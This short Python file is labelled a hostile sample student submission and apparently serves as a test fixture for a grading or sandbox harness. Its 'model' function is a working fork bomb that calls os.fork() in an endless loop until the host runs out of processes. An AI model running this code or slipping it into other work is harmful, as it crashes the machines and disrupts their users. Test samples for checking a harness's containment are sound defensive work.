# Sample student (hostile): a fork bomb.
import os


def model(n):
    while True:
        os.fork()
